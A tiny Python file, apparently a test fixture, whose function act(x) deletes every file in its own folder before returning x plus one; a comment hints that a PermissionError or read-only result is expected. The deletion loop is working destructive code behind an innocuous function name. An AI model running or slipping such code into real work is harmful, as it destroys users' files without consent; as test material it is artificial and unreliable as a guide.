"""Deletes the folder it lies in."""

# says: PermissionError|Read-only
import os


def act(x):
    folder = os.path.dirname(__file__)
    for name in os.listdir(folder):
        os.remove(os.path.join(folder, name))
    x += 1  # here
    return x
